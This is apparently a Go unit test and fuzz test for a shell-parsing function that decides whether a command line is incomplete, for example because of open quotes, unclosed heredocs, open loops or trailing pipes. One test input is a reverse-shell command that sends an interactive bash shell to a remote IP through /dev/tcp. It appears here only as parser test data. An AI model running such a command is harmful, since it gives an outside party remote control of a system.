package line

import "testing"

func TestIncomplete(t *testing.T) {
	for text, want := range map[string]bool{
		`ls -l`:                         false,
		`echo a \`:                      true,
		"echo a \\\nb":                  false,
		`echo 'a`:                       true,
		"echo 'a\nb'":                   false,
		`echo "a $(date`:                true,
		`echo "it's"`:                   false,
		`echo it\'s`:                    false,
		`cat <<EOF`:                     true,
		"cat <<EOF\nx":                  true,
		"cat <<EOF\nx\nEOF":             false,
		"cat <<-'E F'\nx\n\tE F":        false,
		"cat <<A <<B\na\nA\nb":          true,
		"cat <<A <<B\na\nA\nb\nB":       false,
		`cat <<<word`:                   false,
		`for i in 1 2`:                  true,
		"for i in 1 2\ndo echo $i":      true,
		"for i in 1 2; do echo; done":   false,
		"for i in 1 2\ndo echo\ndone":   false,
		`while true; do ls`:             true,
		`if true; then ls; fi`:          false,
		`if true`:                       true,
		`echo if`:                       false,
		`ls |`:                          true,
		`ls &&`:                         true,
		`ls &`:                          false,
		`ls ;`:                          false,
		`f() {`:                         true,
		`f() { ls; }`:                   false,
		`(cd /; ls`:                     true,
		`(cd /; ls)`:                    false,
		`case $x in`:                    true,
		"case $x in a) ls;; b|c) ls":    true,
		"case $x in a) ls;; esac":       false,
		`# don't`:                       false,
		`echo a # it's`:                 false,
		`a=(1 2`:                        true,
		`a=(1 2)`:                       false,
		`echo ${x:-'a}`:                 true,
		"echo `date":                    true,
		"echo $((1 + (2 * 3)))":         false,
		`[[ a < b && ( c > d ) ]]`:      false,
		`echo $'it\'s'`:                 false,
		`diff <(ls a) <(ls b)`:          false,
		`bash -i >& /dev/tcp/1.2.3.4/1`: false,
		`cmd &> out`:                    false,
		`{ ls; }`:                       false,
		`echo 안녕 && echo "세계`:           true,
		`until false; do :; done`:       false,
		`!ls`:                           false,
		`if [ a = b ]; then`:            true,
		`echo a#b'c'`:                   false,
		``:                              false,
	} {
		if got := incomplete(text); got != want {
			t.Errorf("%q: %v, not %v", text, got, want)
		}
	}
}

func FuzzIncomplete(f *testing.F) {
	f.Add("for i in $(ls \"${x:-'a'}\"); do case a in b) cat <<E;; esac; done\nE")
	f.Fuzz(func(_ *testing.T, text string) { incomplete(text) })
}
